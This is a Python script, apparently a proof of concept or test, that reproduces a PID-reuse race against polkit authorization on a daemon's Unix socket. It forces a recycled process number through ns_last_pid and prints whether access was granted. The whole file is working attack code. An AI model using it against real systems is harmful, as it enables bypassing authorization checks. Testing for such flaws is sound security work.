"""pid-reuse.py PATH UID

A process of that user connects, gives its socket to a child and ends; then another process gets its number. The child
asks polkit whether it may come in, and what it is answered is printed.
"""

import os
import signal
import socket
import struct
import sys
import time

path, uid = sys.argv[1], int(sys.argv[2])
go_read, go_write = os.pipe()
out_read, out_write = os.pipe()


def received(client, count):
    data = b""
    while len(data) < count:
        data += client.recv(count - len(data)) or sys.exit("closed")
    return data


def ask(client, procedure):
    client.sendall(struct.pack(">7I", 28, 0x20008086, 1, procedure, 0, 0, 0))
    (size,) = struct.unpack(">I", received(client, 4))
    return received(client, size - 4)


first = os.fork()
if first == 0:
    os.setgid(uid)
    os.setuid(uid)
    client = socket.socket(socket.AF_UNIX)
    client.connect(path)
    # The daemon has accepted the connection when it has answered.
    ask(client, 66)
    if os.fork() == 0:
        os.close(go_write)
        os.read(go_read, 1)
        reply = ask(client, 70)
        (status,) = struct.unpack(">I", reply[20:24])
        text = reply[40 : 40 + struct.unpack(">I", reply[36:40])[0]].decode() if status == 1 else "allowed"
        os.write(out_write, text.encode())
    os._exit(0)
os.close(out_write)
os.waitpid(first, 0)

# The kernel tells when a process began in hundredths of a second: nobody can tell two of the same moment apart.
time.sleep(0.05)
later = None
for _ in range(2000):
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(first - 1))
    child = os.fork()
    if child == 0:
        signal.pause()
    if child == first:
        later = child
        break
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
if later is None:
    sys.exit("no other process got the number")
os.write(go_write, b"x")
print(os.read(out_read, 4096).decode())
os.kill(later, signal.SIGKILL)
